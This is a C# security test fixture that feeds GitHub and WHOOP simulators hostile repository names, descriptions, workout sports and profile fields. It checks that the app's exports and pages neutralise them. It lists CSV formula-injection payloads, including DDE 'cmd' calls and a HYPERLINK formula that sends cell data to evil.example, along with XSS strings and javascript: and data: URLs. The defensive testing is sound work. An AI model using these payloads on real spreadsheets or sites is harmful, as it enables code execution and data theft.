using ProjectTracker.Simulators.GitHub;
using ProjectTracker.Simulators.Whoop;

namespace ProjectTracker.Web.Tests.Security;

/// <summary>
/// What an attacker who controls a repository's name, description and languages, or a WHOOP workout's sport and the
/// profile's names, would serve: spreadsheet formulas (OWASP's CSV-injection set), the classic XSS set, and URLs that run
/// script. Served by the GitHub and WHOOP simulators, so they arrive the way real data does: through a refresh.
/// </summary>
public static class HostileData
{
    /// <summary>Cells a spreadsheet would run: each export must write them as text.</summary>
    public static readonly string[] Formulas =
    [
        "=cmd|' -C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];

    /// <summary>Markup that would add an element or run a handler if any page wrote it unencoded.</summary>
    public static readonly string[] Markup =
    [
        "<img src=x onerror=alert(1)>",
        "\"><script>alert(1)</script>",
        "<svg onload=alert(1)>",
        "'><b onmouseover=alert(1)>hover</b>",
        "</title><iframe src=javascript:alert(1)>",
        "{{constructor.constructor('alert(1)')()}}",
    ];

    /// <summary>Repository addresses that are no web address: stored as none.</summary>
    public static readonly string[] ScriptUrls =
    [
        "javascript:document.title=\"x\"",
        "data:text/html,<script>alert(1)</script>",
        "JaVaScRiPt:alert(1)",
        "//evil.example/relative",
    ];

    public static IEnumerable<string> All => Formulas.Concat(Markup);

    /// <summary>
    /// Payloads a repository name can carry through the simulator's URLs (no <c>/</c>, no control character): GitHub
    /// allows far less, but whatever a listing says is what the app shows.
    /// </summary>
    public static IEnumerable<string> Names => All.Where(payload => !payload.Contains('/') && !payload.Any(char.IsControl));

    /// <summary>One repository per name payload, its description, language and address hostile too, each with the owner's commits.</summary>
    public static void ServeFromGitHub(GitHubSimulatorState github)
    {
        var now = github.Time.GetUtcNow().UtcDateTime;
        var payloads = All.ToList();
        var names = Names.ToList();
        for (var i = 0; i < names.Count; i++)
        {
            var repository = github.AddRepository($"hostile-{i:D2}", configure: r =>
            {
                r.Description = payloads[(i + 1) % payloads.Count];
                r.Languages[payloads[(i + 2) % payloads.Count]] = 50_000;
                r.HtmlUrl = ScriptUrls[i % ScriptUrls.Length];
                r.SizeKb = 60;
            });
            repository.Name = names[i];
            for (var c = 0; c < 3; c++)
            {
                github.AddCommit(repository, now.AddDays(-i - 1).AddMinutes(c * 20), message: payloads[(i + c) % payloads.Count]);
            }
        }

        var fine = github.AddRepository("well-behaved", configure: r => r.Languages["C#"] = 10_000);
        github.AddCommit(fine, now.AddDays(-2));
    }

    /// <summary>A month of WHOOP records whose workouts carry the hostile names as their sport, and a hostile profile.</summary>
    public static void ServeFromWhoop(WhoopSimulatorState whoop)
    {
        WhoopDataGenerator.Populate(whoop, days: 30);
        var payloads = All.ToList();
        var workouts = whoop.Workouts.OrderBy(w => w.Value.Start).ToList();
        for (var i = 0; i < workouts.Count; i++)
        {
            whoop.Workouts[workouts[i].Key] = workouts[i].Value with { SportName = payloads[i % payloads.Count] };
        }

        whoop.Profile = whoop.Profile with { FirstName = Markup[0], LastName = Formulas[0], Email = Markup[1] };
    }
}
